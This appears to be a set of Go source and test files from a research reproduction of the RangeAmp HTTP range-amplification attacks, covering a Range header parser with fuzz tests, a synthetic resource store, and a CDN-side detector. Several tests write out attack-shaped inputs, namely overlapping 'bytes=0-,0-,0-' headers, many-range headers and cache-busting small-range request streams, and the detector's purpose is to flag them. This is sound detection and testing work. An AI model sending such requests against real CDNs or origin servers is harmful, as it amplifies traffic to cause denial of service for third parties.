				t.Errorf("Overlapping = %v, want %v", got, tt.want)
			}
		})
	}
}

func TestOverlappingSpecs(t *testing.T) {
	tests := []struct {
		name string
		set  Set
		want bool
	}{
		{"obr", Set{NewRange(0, Unbounded), NewRange(0, Unbounded)}, true},
		{"cdnsun-case", Set{NewRange(1, Unbounded), NewRange(0, Unbounded)}, true},
		{"cdn77-case", Set{NewSuffix(1024), NewRange(0, Unbounded)}, true},
		{"two-suffixes", Set{NewSuffix(1), NewSuffix(2)}, true},
		{"disjoint", Set{NewRange(0, 4), NewRange(5, 9)}, false},
		{"suffix-and-bounded", Set{NewSuffix(5), NewRange(0, 10)}, false},
		{"zero-suffix", Set{NewSuffix(0), NewRange(0, Unbounded)}, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := tt.set.OverlappingSpecs(); got != tt.want {
				t.Errorf("OverlappingSpecs = %v, want %v", got, tt.want)
			}
		})
	}
}

func TestCoalesce(t *testing.T) {
	tests := []struct {
		name string
		in   []Resolved
		want []Resolved
	}{
		{"empty", nil, nil},
		{"single", []Resolved{{0, 10}}, []Resolved{{0, 10}}},
		{"overlap", []Resolved{{0, 10}, {5, 10}}, []Resolved{{0, 15}}},
		{"adjacent", []Resolved{{0, 5}, {5, 5}}, []Resolved{{0, 10}}},
		{"disjoint", []Resolved{{0, 2}, {10, 2}}, []Resolved{{0, 2}, {10, 2}}},
		{"unsorted", []Resolved{{10, 5}, {0, 5}}, []Resolved{{0, 5}, {10, 5}}},
		{"contained", []Resolved{{0, 100}, {10, 5}}, []Resolved{{0, 100}}},
		{"n-copies", []Resolved{{0, 7}, {0, 7}, {0, 7}}, []Resolved{{0, 7}}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := Coalesce(tt.in)
			if len(got) != len(tt.want) {
				t.Fatalf("Coalesce = %+v, want %+v", got, tt.want)
			}
			for i := range got {
				if got[i] != tt.want[i] {
					t.Errorf("window %d = %+v, want %+v", i, got[i], tt.want[i])
				}
			}
		})
	}
}

func TestCoalesceDoesNotMutateInput(t *testing.T) {
	in := []Resolved{{10, 5}, {0, 5}}
	Coalesce(in)
	if in[0] != (Resolved{10, 5}) || in[1] != (Resolved{0, 5}) {
		t.Errorf("input mutated: %+v", in)
	}
}

func TestTotalBytesCountsOverlapTwice(t *testing.T) {
	rs := []Resolved{{0, 1024}, {0, 1024}, {0, 1024}}
	if got := TotalBytes(rs); got != 3072 {
		t.Errorf("TotalBytes = %d, want 3072 (overlap double-counted)", got)
	}
}

func TestSpan(t *testing.T) {
	if _, ok := Span(nil); ok {
		t.Error("Span(nil) ok, want false")
	}
	got, ok := Span([]Resolved{{10, 5}, {0, 2}, {100, 1}})
	if !ok || got != (Resolved{0, 101}) {
		t.Errorf("Span = %+v,%v want {0,101},true", got, ok)
	}
}

func TestContentRange(t *testing.T) {
	r := Resolved{Offset: 1, Length: 1}
	if got, want := r.ContentRange(1000), "bytes 1-1/1000"; got != want {
		t.Errorf("ContentRange = %q, want %q", got, want)
	}
}

func TestRoundTripProperty(t *testing.T) {
	// Any syntactically valid spec must survive String -> Parse.
	f := func(first, last, suffix uint32, kind uint8) bool {
		var s Spec
		switch kind % 3 {
		case 0:
			lo, hi := int64(first), int64(last)
			if hi < lo {
				lo, hi = hi, lo
			}
			s = NewRange(lo, hi)
		case 1:
			s = NewRange(int64(first), Unbounded)
		default:
			s = NewSuffix(int64(suffix))
		}
		set, err := Parse("bytes=" + s.String())
		return err == nil && len(set) == 1 && set[0] == s
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 2000}); err != nil {
		t.Error(err)
	}
}

func TestResolveInvariantsProperty(t *testing.T) {
	// Every satisfiable resolution lies inside the resource.
	f := func(first, last uint16, size uint16) bool {
		lo, hi := int64(first), int64(last)
		if hi < lo {
			lo, hi = hi, lo
		}
		s := NewRange(lo, hi)
		r, ok := s.Resolve(int64(size))
		if !ok {
			return lo >= int64(size)
		}
		return r.Offset >= 0 && r.Length > 0 && r.End() < int64(size) && r.Offset == lo
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 5000}); err != nil {
		t.Error(err)
	}
}

func TestCoalesceInvariantsProperty(t *testing.T) {
	// Coalesced output covers the same byte set with no overlap and no
	// adjacency, sorted by offset.
	f := func(raw []struct {
		Off uint8
		Len uint8
	}) bool {
		in := make([]Resolved, 0, len(raw))
		for _, w := range raw {
			if w.Len == 0 {
				continue
			}
			in = append(in, Resolved{Offset: int64(w.Off), Length: int64(w.Len)})
		}
		out := Coalesce(in)
		if len(in) == 0 {
			return out == nil
		}
		cover := make(map[int64]bool)
		for _, r := range in {
			for b := r.Offset; b <= r.End(); b++ {
				cover[b] = true
			}
		}
		var covered int64
		for i, r := range out {
			if i > 0 && out[i-1].End()+1 >= r.Offset {
				return false // overlap or adjacency survived
			}
			for b := r.Offset; b <= r.End(); b++ {
				if !cover[b] {
					return false // invented a byte
				}
			}
			covered += r.Length
		}
		return covered == int64(len(cover))
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Error(err)
	}
}

func TestSuffixResolveProperty(t *testing.T) {
	f := func(suffix, size uint16) bool {
		s := NewSuffix(int64(suffix))
		r, ok := s.Resolve(int64(size))
		if suffix == 0 || size == 0 {
			return !ok
		}
		want := int64(suffix)
		if want > int64(size) {
			want = int64(size)
		}
		return ok && r.Length == want && r.End() == int64(size)-1
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 5000}); err != nil {
		t.Error(err)
	}
}

func TestParseRejectsGarbageProperty(t *testing.T) {
	// Parse never panics and never accepts a header without "bytes=".
	f := func(s string) bool {
		set, err := Parse(s)
		if err != nil {
			return true
		}
		return strings.Contains(s, "=") && len(set) > 0
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 2000}); err != nil {
		t.Error(err)
	}
}
