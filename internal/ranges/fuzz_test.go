package ranges

import "testing"

// FuzzParse drives the RFC 7233 parser with arbitrary header values.
// Without -fuzz the seed corpus runs as regular tests.
func FuzzParse(f *testing.F) {
	for _, seed := range []string{
		"bytes=0-0",
		"bytes=-1",
		"bytes=0-",
		"bytes=1-1,-2",
		"bytes=0-,0-,0-",
		"bytes=8388608-16777215",
		"bytes = 0-0 , 5-9",
		"bytes=",
		"items=0-5",
		"bytes=9-5",
		"bytes=-",
		"bytes=18446744073709551615-",
		"bytes=0-0,,,,5-9,",
	} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, header string) {
		set, err := Parse(header)
		if err != nil {
			return
		}
		// Accepted sets must round-trip and stay well-formed.
		if len(set) == 0 {
			t.Fatalf("Parse(%q) accepted an empty set", header)
		}
		for i, s := range set {
			if !s.SyntacticallyValid() {
				t.Fatalf("Parse(%q) spec %d invalid: %+v", header, i, s)
			}
		}
		again, err := Parse(set.String())
		if err != nil {
			t.Fatalf("round trip of %q -> %q failed: %v", header, set.String(), err)
		}
		if len(again) != len(set) {
			t.Fatalf("round trip of %q changed arity", header)
		}
		for i := range set {
			if again[i] != set[i] {
				t.Fatalf("round trip of %q changed spec %d", header, i)
			}
		}
		// Resolution never panics and never escapes the resource.
		for _, size := range []int64{0, 1, 1000, 1 << 30} {
			for _, w := range set.Resolve(size) {
				if w.Offset < 0 || w.Length <= 0 || w.End() >= size {
					t.Fatalf("Resolve(%q, %d) escaped: %+v", header, size, w)
				}
			}
		}
	})
}
