// Package resource provides the in-memory web resources the origin
// server serves. The paper's experiments use synthetic files (1 KB for
// OBR, 1–25 MB for the SBR sweep); Synthetic builds deterministic
// content of any size so byte-exact assertions are possible.
package resource

import (
	"fmt"
	"hash/fnv"
	"os"
	"path/filepath"
	"sort"
	"sync"
	"sync/atomic"
	"time"

	"repro/internal/ranges"
)

// The synthetic fill byte(i*131 + i>>8*31 + 7) depends on i only through
// i mod 2^16 (131·i mod 256 has period 256; (i>>8)·31 mod 256 has period
// 256 in i>>8, i.e. 65536 in i), so every synthetic resource is a prefix
// of one infinite periodic stream. All Synthetic resources therefore
// alias a single shared backing array that is grown on demand — a 25 MB
// sweep cell costs a sub-slice header, not 25 MB of heap per cell.
const patternPeriod = 64 << 10

// patternTable holds exactly one period of the synthetic stream. It is
// computed once at package init and never written again, so readers
// need no synchronization.
var patternTable = func() []byte {
	buf := make([]byte, patternPeriod)
	for i := range buf {
		buf[i] = byte(i*131 + i>>8*31 + 7)
	}
	return buf
}()

// patternSlab publishes the current backing array as an immutable
// snapshot: a published slab is never written again, growth copies into
// a fresh larger array and swaps the pointer. Readers therefore do one
// atomic load and a length check — no mutex on the hot path. patternGrow
// serializes growers only; it is never taken on the satisfied-read path.
var (
	patternSlab atomic.Pointer[[]byte]
	patternGrow sync.Mutex
)

func init() {
	slab := patternTable
	patternSlab.Store(&slab)
}

// patternBytes returns a read-only view of the first size bytes of the
// shared synthetic pattern, growing the backing array if needed. The
// returned slice is capacity-capped so appends by a caller cannot
// clobber neighbouring resources' views.
func patternBytes(size int64) []byte {
	if slab := *patternSlab.Load(); int64(len(slab)) >= size {
		return slab[:size:size]
	}
	patternGrow.Lock()
	defer patternGrow.Unlock()
	slab := *patternSlab.Load()
	if int64(len(slab)) < size {
		// Double into a fresh array by tiling the period table — the
		// stream is periodic, so tiling preserves the formula. The old
		// slab stays untouched: views handed out earlier remain valid.
		grown := int64(len(slab))
		for grown < size {
			grown *= 2
		}
		next := make([]byte, grown)
		for off := 0; off < len(next); off += patternPeriod {
			copy(next[off:], patternTable)
		}
		patternSlab.Store(&next)
		slab = next
	}
	return slab[:size:size]
}

// Resource is one origin object.
type Resource struct {
	Path         string
	ContentType  string
	Data         []byte
	ETag         string
	LastModified time.Time
}

// epoch is a fixed Last-Modified instant so serialized responses are
// deterministic across runs (the experiments compare exact byte counts).
var epoch = time.Date(2020, time.June, 29, 0, 0, 0, 0, time.UTC) // DSN 2020 week

// Synthetic builds a resource of exactly size bytes with deterministic,
// position-dependent content (so range slicing bugs corrupt data in a
// detectable way rather than returning identical bytes). The returned
// Data is a read-only view into the shared pattern backing array — all
// synthetic resources of all sizes alias the same storage. Callers must
// not write through it.
func Synthetic(path string, size int64, contentType string) *Resource {
	return &Resource{
		Path:         path,
		ContentType:  contentType,
		Data:         patternBytes(size),
		ETag:         fmt.Sprintf(`"%x-%x"`, size, len(path)*2654435761),
		LastModified: epoch,
	}
}

// Size returns the resource length in bytes.
func (r *Resource) Size() int64 { return int64(len(r.Data)) }

// Slice returns the bytes of a resolved window as an aliased read-only
// view into the resource's backing array (for synthetic resources, the
// shared pattern store) — no copy is made, so the serving path can
// stream windows straight to the wire. Callers must not mutate the
// returned bytes. The window must lie inside the resource (Resolve
// guarantees this); out-of-bounds windows return nil so a caller bug
// surfaces as a visible empty part.
func (r *Resource) Slice(w ranges.Resolved) []byte {
	if w.Offset < 0 || w.Length <= 0 || w.End() >= r.Size() {
		return nil
	}
	return r.Data[w.Offset : w.Offset+w.Length]
}

// Store is a concurrency-safe path-keyed resource collection.
type Store struct {
	mu sync.RWMutex
	m  map[string]*Resource
}

// NewStore returns an empty store.
func NewStore() *Store {
	return &Store{m: make(map[string]*Resource)}
}

// Add inserts or replaces a resource by its path.
func (s *Store) Add(r *Resource) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.m[r.Path] = r
}

// AddSynthetic builds and stores a synthetic resource, returning it.
func (s *Store) AddSynthetic(path string, size int64, contentType string) *Resource {
	r := Synthetic(path, size, contentType)
	s.Add(r)
	return r
}

// Get looks up a resource by path.
func (s *Store) Get(path string) (*Resource, bool) {
	s.mu.RLock()
	defer s.mu.RUnlock()
	r, ok := s.m[path]
	return r, ok
}

// Remove deletes a resource, reporting whether it existed.
func (s *Store) Remove(path string) bool {
	s.mu.Lock()
	defer s.mu.Unlock()
	_, ok := s.m[path]
	delete(s.m, path)
	return ok
}

// Paths returns the stored paths, sorted.
func (s *Store) Paths() []string {
	s.mu.RLock()
	defer s.mu.RUnlock()
	out := make([]string, 0, len(s.m))
	for p := range s.m {
		out = append(out, p)
	}
	sort.Strings(out)
	return out
}

// Len returns the number of stored resources.
func (s *Store) Len() int {
	s.mu.RLock()
	defer s.mu.RUnlock()
	return len(s.m)
}

// FromFile loads a file from disk as a resource served at path. The
// ETag derives from size and content so it changes when the file does.
func FromFile(path, filename, contentType string) (*Resource, error) {
	data, err := os.ReadFile(filename)
	if err != nil {
		return nil, fmt.Errorf("read %s: %w", filename, err)
	}
	h := fnv.New64a()
	h.Write(data)
	sum := h.Sum64()
	return &Resource{
		Path:         path,
		ContentType:  contentType,
		Data:         data,
		ETag:         fmt.Sprintf(`"%x-%x"`, len(data), sum),
		LastModified: epoch,
	}, nil
}

// AddDirectory loads every regular file in dir into the store, served
// at "/<name>". It returns the loaded paths.
func (s *Store) AddDirectory(dir, contentType string) ([]string, error) {
	entries, err := os.ReadDir(dir)
	if err != nil {
		return nil, fmt.Errorf("read dir %s: %w", dir, err)
	}
	var paths []string
	for _, e := range entries {
		if !e.Type().IsRegular() {
			continue
		}
		res, err := FromFile("/"+e.Name(), filepath.Join(dir, e.Name()), contentType)
		if err != nil {
			return nil, err
		}
		s.Add(res)
		paths = append(paths, res.Path)
	}
	sort.Strings(paths)
	return paths, nil
}
