package resource

import (
	"bytes"
	"os"
	"path/filepath"
	"testing"
	"testing/quick"

	"repro/internal/ranges"
)

func TestSyntheticDeterministic(t *testing.T) {
	a := Synthetic("/f", 4096, "application/octet-stream")
	b := Synthetic("/f", 4096, "application/octet-stream")
	if !bytes.Equal(a.Data, b.Data) {
		t.Error("synthetic content not deterministic")
	}
	if a.Size() != 4096 {
		t.Errorf("Size = %d", a.Size())
	}
	if a.ETag == "" || a.LastModified.IsZero() {
		t.Error("validators not populated")
	}
}

func TestSyntheticContentVaries(t *testing.T) {
	r := Synthetic("/f", 1024, "x")
	same := 0
	for i := 1; i < 1024; i++ {
		if r.Data[i] == r.Data[0] {
			same++
		}
	}
	if same > 512 {
		t.Errorf("content too uniform: %d/1023 bytes equal the first", same)
	}
}

func TestSliceMatchesResolve(t *testing.T) {
	r := Synthetic("/f", 1000, "x")
	set, err := ranges.Parse("bytes=1-1,-2")
	if err != nil {
		t.Fatal(err)
	}
	rs := set.Resolve(r.Size())
	if len(rs) != 2 {
		t.Fatalf("resolved %d windows", len(rs))
	}
	if got := r.Slice(rs[0]); len(got) != 1 || got[0] != r.Data[1] {
		t.Errorf("slice 1-1 = %v", got)
	}
	if got := r.Slice(rs[1]); len(got) != 2 || !bytes.Equal(got, r.Data[998:1000]) {
		t.Errorf("slice -2 = %v", got)
	}
}

func TestSliceOutOfBounds(t *testing.T) {
	r := Synthetic("/f", 10, "x")
	for _, w := range []ranges.Resolved{
		{Offset: 0, Length: 11},
		{Offset: 10, Length: 1},
		{Offset: -1, Length: 2},
		{Offset: 0, Length: 0},
	} {
		if got := r.Slice(w); got != nil {
			t.Errorf("Slice(%+v) = %d bytes, want nil", w, len(got))
		}
	}
}

func TestStoreCRUD(t *testing.T) {
	s := NewStore()
	if s.Len() != 0 {
		t.Fatal("new store not empty")
	}
	s.AddSynthetic("/a", 10, "x")
	s.AddSynthetic("/b", 20, "x")
	if s.Len() != 2 {
		t.Fatalf("Len = %d", s.Len())
	}
	r, ok := s.Get("/a")
	if !ok || r.Size() != 10 {
		t.Fatalf("Get(/a) = %v,%v", r, ok)
	}
	if _, ok := s.Get("/missing"); ok {
		t.Error("Get(/missing) ok")
	}
	if got := s.Paths(); len(got) != 2 || got[0] != "/a" || got[1] != "/b" {
		t.Errorf("Paths = %v", got)
	}
	if !s.Remove("/a") || s.Remove("/a") {
		t.Error("Remove semantics wrong")
	}
	if s.Len() != 1 {
		t.Errorf("Len after remove = %d", s.Len())
	}
}

func TestStoreReplace(t *testing.T) {
	s := NewStore()
	s.AddSynthetic("/a", 10, "x")
	s.AddSynthetic("/a", 99, "x")
	r, _ := s.Get("/a")
	if r.Size() != 99 || s.Len() != 1 {
		t.Errorf("replace failed: size=%d len=%d", r.Size(), s.Len())
	}
}

func TestSliceProperty(t *testing.T) {
	r := Synthetic("/f", 8192, "x")
	f := func(off, length uint16) bool {
		w := ranges.Resolved{Offset: int64(off), Length: int64(length)}
		got := r.Slice(w)
		if w.Length <= 0 || w.End() >= r.Size() {
			return got == nil
		}
		return int64(len(got)) == w.Length && bytes.Equal(got, r.Data[w.Offset:w.Offset+w.Length])
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 3000}); err != nil {
		t.Error(err)
	}
}

func TestFromFileAndAddDirectory(t *testing.T) {
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "a.bin"), []byte("hello"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "b.bin"), []byte("world!"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Mkdir(filepath.Join(dir, "sub"), 0o755); err != nil {
		t.Fatal(err)
	}

	res, err := FromFile("/a.bin", filepath.Join(dir, "a.bin"), "application/octet-stream")
	if err != nil {
		t.Fatal(err)
	}
	if res.Size() != 5 || res.ETag == "" {
		t.Errorf("FromFile: %+v", res)
	}

	s := NewStore()
	paths, err := s.AddDirectory(dir, "application/octet-stream")
	if err != nil {
		t.Fatal(err)
	}
	if len(paths) != 2 || paths[0] != "/a.bin" || paths[1] != "/b.bin" {
		t.Errorf("paths = %v", paths)
	}
	got, ok := s.Get("/b.bin")
	if !ok || string(got.Data) != "world!" {
		t.Errorf("Get(/b.bin) = %v,%v", got, ok)
	}
}

func TestFromFileMissing(t *testing.T) {
	if _, err := FromFile("/x", "/definitely/not/here", "x"); err == nil {
		t.Error("missing file loaded")
	}
	s := NewStore()
	if _, err := s.AddDirectory("/definitely/not/here", "x"); err == nil {
		t.Error("missing dir loaded")
	}
}

func TestETagChangesWithContent(t *testing.T) {
	dir := t.TempDir()
	f := filepath.Join(dir, "f")
	os.WriteFile(f, []byte("v1-content"), 0o644)
	a, err := FromFile("/f", f, "x")
	if err != nil {
		t.Fatal(err)
	}
	os.WriteFile(f, []byte("v2-content"), 0o644)
	b, err := FromFile("/f", f, "x")
	if err != nil {
		t.Fatal(err)
	}
	if a.ETag == b.ETag {
		t.Error("ETag did not change with content")
	}
}
