package resource

import (
	"sync"
	"testing"
)

// TestSyntheticSharesBacking pins the dedup property: once the pattern
// backing has grown to cover the largest resource, smaller synthetic
// resources are prefixes of the same array, not fresh allocations.
func TestSyntheticSharesBacking(t *testing.T) {
	big := Synthetic("/big.bin", 4<<20, "x")
	small := Synthetic("/small.bin", 1<<20, "x")
	if &big.Data[0] != &small.Data[0] {
		t.Error("synthetic resources should alias one shared backing array")
	}
	if cap(small.Data) != len(small.Data) {
		t.Errorf("view capacity %d exceeds length %d: appends could clobber neighbours",
			cap(small.Data), len(small.Data))
	}
}

// TestSyntheticFormulaAcrossPeriod spot-checks the position-dependent
// fill formula at and around the pattern period boundary, where the
// doubling-copy fill would first diverge from the direct loop.
func TestSyntheticFormulaAcrossPeriod(t *testing.T) {
	r := Synthetic("/p.bin", patternPeriod*3+10, "x")
	for _, i := range []int{
		0, 1, 255, 256, 257,
		patternPeriod - 1, patternPeriod, patternPeriod + 1,
		2*patternPeriod - 1, 2 * patternPeriod,
		3*patternPeriod + 9,
	} {
		want := byte(i*131 + i>>8*31 + 7)
		if r.Data[i] != want {
			t.Errorf("Data[%d] = %#x, want %#x", i, r.Data[i], want)
		}
	}
}

// TestConcurrentSyntheticRace grows the shared backing from many
// goroutines at once (run under -race); every resource must still carry
// correct bytes.
func TestConcurrentSyntheticRace(t *testing.T) {
	var wg sync.WaitGroup
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			size := int64((g + 1) * 300000)
			r := Synthetic("/c.bin", size, "x")
			if r.Size() != size {
				t.Errorf("size = %d, want %d", r.Size(), size)
				return
			}
			for _, i := range []int64{0, size / 2, size - 1} {
				want := byte(i*131 + i>>8*31 + 7)
				if r.Data[i] != want {
					t.Errorf("goroutine %d: Data[%d] = %#x, want %#x", g, i, r.Data[i], want)
				}
			}
		}(g)
	}
	wg.Wait()
}
