package detect

import (
	"fmt"
	"strings"
	"testing"

	"repro/internal/httpwire"
	"repro/internal/metrics"
	"repro/internal/ranges"
	"repro/internal/workload"
)

func rangeRequest(target, rangeHeader string) *httpwire.Request {
	req := httpwire.NewRequest("GET", target, "h")
	if rangeHeader != "" {
		req.Headers.Add("Range", rangeHeader)
	}
	return req
}

func TestOBROverlapFlagged(t *testing.T) {
	d := New(Config{})
	v := d.Inspect(rangeRequest("/f", "bytes=0-,0-,0-"))
	if !v.Malicious || !strings.Contains(v.Reason, "overlapping") {
		t.Errorf("verdict = %+v", v)
	}
	if d.Stats().FlaggedOBR != 1 {
		t.Errorf("stats = %+v", d.Stats())
	}
}

func TestOBRManyRangesFlagged(t *testing.T) {
	d := New(Config{MaxRanges: 4})
	// Five disjoint ranges: not overlapping, but over the count limit.
	v := d.Inspect(rangeRequest("/f", "bytes=0-0,2-2,4-4,6-6,8-8"))
	if !v.Malicious || !strings.Contains(v.Reason, "limit") {
		t.Errorf("verdict = %+v", v)
	}
}

func TestOverlapCheckCanBeDisabled(t *testing.T) {
	d := New(Config{DisableOverlapCheck: true, MaxRanges: 100})
	if v := d.Inspect(rangeRequest("/f", "bytes=0-,0-")); v.Malicious {
		t.Errorf("flagged with overlap check disabled: %+v", v)
	}
}

func TestSBRCacheBustingStreamFlagged(t *testing.T) {
	d := New(Config{SmallBustingThreshold: 16})
	stream := workload.AttackSBRStream("/10MB.bin", 64)
	flagged := 0
	for _, req := range stream {
		if d.Inspect(req).Malicious {
			flagged++
		}
	}
	if flagged == 0 {
		t.Fatal("SBR stream never flagged")
	}
	// Everything past the threshold must be flagged.
	if flagged < len(stream)-16 {
		t.Errorf("flagged only %d of %d", flagged, len(stream))
	}
}

func TestSingleSmallRangeNotFlagged(t *testing.T) {
	d := New(Config{})
	if v := d.Inspect(rangeRequest("/f", "bytes=0-0")); v.Malicious {
		t.Errorf("single bytes=0-0 flagged: %+v", v)
	}
}

func TestRepeatedSameKeyNotFlagged(t *testing.T) {
	// Small ranges with the SAME cache key (no busting) are a media
	// player re-requesting a header — not the attack shape.
	d := New(Config{})
	for i := 0; i < 100; i++ {
		if v := d.Inspect(rangeRequest("/f", "bytes=0-512")); v.Malicious {
			t.Fatalf("iteration %d flagged: %+v", i, v)
		}
	}
}

func TestBenignWorkloadZeroFalsePositives(t *testing.T) {
	d := New(Config{})
	g := workload.NewGenerator(42)
	paths := []string{"/a.mp4", "/b.zip", "/c.iso"}
	for i, req := range g.Mixed(paths, 64<<20, 2000) {
		if v := d.Inspect(req); v.Malicious {
			rangeHdr, _ := req.Headers.Get("Range")
			t.Fatalf("benign request %d flagged (%s %s): %s", i, req.Target, rangeHdr, v.Reason)
		}
	}
	if d.Stats().Inspected == 0 {
		t.Error("nothing inspected")
	}
}

func TestNoRangeNeverMalicious(t *testing.T) {
	d := New(Config{})
	for i := 0; i < 200; i++ {
		req := rangeRequest(fmt.Sprintf("/f?cb=%d", i), "")
		if d.Inspect(req).Malicious {
			t.Fatal("rangeless request flagged")
		}
	}
	if d.Stats().Inspected != 0 {
		t.Error("rangeless requests counted as inspected")
	}
}

func TestMalformedRangeIgnored(t *testing.T) {
	d := New(Config{})
	if v := d.Inspect(rangeRequest("/f", "bytes=zz")); v.Malicious {
		t.Errorf("malformed flagged: %+v", v)
	}
}

func TestWindowSlides(t *testing.T) {
	// With a window of 8 and threshold 8, old busting entries age out.
	d := New(Config{WindowSize: 8, SmallBustingThreshold: 8})
	for i := 0; i < 7; i++ {
		d.Inspect(rangeRequest(fmt.Sprintf("/f?cb=%d", i), "bytes=0-0"))
	}
	// Fill the window with large-range (benign) entries.
	for i := 0; i < 8; i++ {
		d.Inspect(rangeRequest("/f", "bytes=0-1048575"))
	}
	// A single new small request must not trip the threshold now.
	if v := d.Inspect(rangeRequest("/f?cb=new", "bytes=0-0")); v.Malicious {
		t.Errorf("aged-out entries still counted: %+v", v)
	}
}

func TestPathsIsolated(t *testing.T) {
	d := New(Config{SmallBustingThreshold: 10})
	// 9 busting requests on /a, 9 on /b: neither crosses the threshold.
	for i := 0; i < 9; i++ {
		if v := d.Inspect(rangeRequest(fmt.Sprintf("/a?cb=%d", i), "bytes=0-0")); v.Malicious {
			t.Fatalf("/a flagged early: %+v", v)
		}
		if v := d.Inspect(rangeRequest(fmt.Sprintf("/b?cb=%d", i), "bytes=0-0")); v.Malicious {
			t.Fatalf("/b flagged early: %+v", v)
		}
	}
}

func TestIsSmallSet(t *testing.T) {
	tests := []struct {
		header string
		want   bool
	}{
		{"bytes=0-0", true},
		{"bytes=0-1023", true},
		{"bytes=0-1024", false},
		{"bytes=-1", true},
		{"bytes=-4096", false},
		{"bytes=100-", false},
		{"bytes=0-0,5-5", true},
		{"bytes=0-0,0-9999", false},
	}
	for _, tt := range tests {
		req := rangeRequest("/f", tt.header)
		raw, _ := req.Headers.Get("Range")
		set, err := ranges.Parse(raw)
		if err != nil {
			t.Fatalf("%s: %v", tt.header, err)
		}
		if got := isSmallSet(set, 1024); got != tt.want {
			t.Errorf("isSmallSet(%q) = %v, want %v", tt.header, got, tt.want)
		}
	}
}

func TestResetAndDescribe(t *testing.T) {
	d := New(Config{})
	d.Inspect(rangeRequest("/f", "bytes=0-,0-"))
	d.Reset()
	if st := d.Stats(); st != (Stats{}) {
		t.Errorf("stats after reset: %+v", st)
	}
	if !strings.Contains(d.DescribeConfig(), "maxRanges=16") {
		t.Errorf("DescribeConfig = %q", d.DescribeConfig())
	}
}

func TestScreenAdapter(t *testing.T) {
	d := New(Config{})
	mal, reason := d.Screen(rangeRequest("/f", "bytes=0-,0-"))
	if !mal || reason == "" {
		t.Errorf("Screen = %v,%q", mal, reason)
	}
}

func TestVerdictCountersInInjectedRegistry(t *testing.T) {
	reg := metrics.New()
	d := New(Config{MaxRanges: 4, SmallBustingThreshold: 4, Metrics: reg})

	d.Inspect(rangeRequest("/f", "bytes=0-,0-,0-"))            // obr/overlap
	d.Inspect(rangeRequest("/f", "bytes=0-0,2-2,4-4,6-6,8-8")) // obr/ranges
	for i := 0; i < 8; i++ {                                   // sbr/busting
		d.Inspect(rangeRequest(fmt.Sprintf("/f?cb=%d", i), "bytes=0-0"))
	}
	d.Inspect(rangeRequest("/f", "")) // no Range header: not inspected

	snap := reg.Snapshot()
	if got := snap.Value("detect_inspected_total"); got != 10 {
		t.Errorf("detect_inspected_total = %d, want 10", got)
	}
	if got := snap.Value("detect_flagged_total",
		metrics.L("attack", "obr"), metrics.L("reason", "overlap")); got != 1 {
		t.Errorf("obr/overlap = %d, want 1", got)
	}
	if got := snap.Value("detect_flagged_total",
		metrics.L("attack", "obr"), metrics.L("reason", "ranges")); got != 1 {
		t.Errorf("obr/ranges = %d, want 1", got)
	}
	got := snap.Value("detect_flagged_total",
		metrics.L("attack", "sbr"), metrics.L("reason", "busting"))
	if want := d.Stats().FlaggedSBR; got != want {
		t.Errorf("sbr/busting = %d, want %d (the Stats count)", got, want)
	}
	if got == 0 {
		t.Error("sbr/busting never counted")
	}

	// The registry is cumulative by design: Reset clears the windowed
	// state and the Stats counters, never the metric series.
	d.Reset()
	if v := reg.Snapshot().Value("detect_inspected_total"); v != 10 {
		t.Errorf("after Reset, detect_inspected_total = %d, want 10", v)
	}
}
