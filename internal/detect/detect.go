// Package detect implements the first CDN-side mitigation §VI-C
// proposes: "CDNs can detect and intercept malicious range requests
// based on the characteristics of the RangeAmp attacks". The detector
// recognises both attack signatures:
//
//   - OBR: a multi-range request with overlapping ranges, or with more
//     ranges than any legitimate client sends — flagged statelessly,
//     per request.
//   - SBR: a stream of tiny-range requests for the same path whose
//     cache keys keep changing (the cache-busting query strings the
//     attack needs) — flagged with a per-path sliding window, since a
//     single bytes=0-0 request is perfectly legitimate.
//
// The companion package internal/workload generates realistic benign
// range traffic (video seeking, resumed and parallel downloads) that
// the detector must pass; the false-positive behaviour is part of the
// test suite.
package detect

import (
	"fmt"
	"strings"
	"sync"

	"repro/internal/httpwire"
	"repro/internal/metrics"
	"repro/internal/ranges"
)

// Config tunes the detector. Zero values select the defaults.
type Config struct {
	// SmallRangeBytes is the span at or below which a single range
	// counts as "small" (the SBR shape). Default 1024.
	SmallRangeBytes int64

	// WindowSize is the per-path sliding window of recent range
	// requests. Default 64.
	WindowSize int

	// SmallBustingThreshold flags a path once this many small-range
	// requests with *distinct* cache keys are in its window. Default 16.
	SmallBustingThreshold int

	// MaxRanges rejects any request with more ranges than this
	// (RFC 7233 §6.1's "many small ranges" consideration). Default 16.
	MaxRanges int

	// RejectOverlap rejects multi-range requests whose ranges overlap.
	// Default true (set DisableOverlapCheck to turn off).
	DisableOverlapCheck bool

	// Metrics is the registry the detector's verdict counters resolve
	// against at construction (the PR 6 Runtime injection pattern). Nil
	// means metrics.Default — the daemon-facing fallback, so a cdnsim
	// -detect edge surfaces its verdicts on /metrics and /debug/live
	// without extra wiring.
	Metrics *metrics.Registry
}

const (
	defaultSmallRangeBytes = 1024
	defaultWindowSize      = 64
	defaultSmallBusting    = 16
	defaultMaxRanges       = 16
)

// Verdict is the outcome of inspecting one request.
type Verdict struct {
	Malicious bool
	Reason    string
}

// Detector inspects the range requests arriving at one edge.
type Detector struct {
	cfg Config

	mu      sync.Mutex
	windows map[string]*pathWindow
	stats   Stats

	// Registry series, resolved once at construction so Inspect pays
	// one atomic add per verdict.
	mInspected  *metrics.Counter
	mFlagRanges *metrics.Counter // obr: too many ranges
	mFlagOver   *metrics.Counter // obr: overlapping ranges
	mFlagBust   *metrics.Counter // sbr: cache-busting small ranges
}

// Stats counts verdicts for reporting.
type Stats struct {
	Inspected  int64
